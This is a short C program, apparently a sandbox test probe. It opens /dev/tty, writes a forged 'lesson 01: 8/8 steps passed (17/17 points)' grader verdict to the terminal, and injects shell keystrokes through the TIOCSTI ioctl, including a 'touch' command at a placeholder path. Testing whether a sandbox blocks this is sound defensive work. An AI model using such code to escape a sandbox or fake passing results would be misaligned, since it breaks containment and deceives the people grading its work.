// The terminal: open /dev/tty, write a fake verdict on it, and push keystrokes into the shell (TIOCSTI).
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
int main(void)
{
    int fd = open("/dev/tty", O_RDWR);
    printf("open /dev/tty: %d\n", fd);
    if (fd >= 0) {
        const char *fake = "\nlesson 01: 8/8 steps passed (17/17 points)\n";
        (void)!write(fd, fake, strlen(fake));
        const char *keys = "touch @ROOT@/@MARK@\n";
        for (const char *c = keys; *c; c++) ioctl(fd, TIOCSTI, c);
    }
    for (const char *c = "echo hi\n"; *c; c++) ioctl(0, TIOCSTI, c); /* stdin, in case it is a terminal */
    return 1;
}
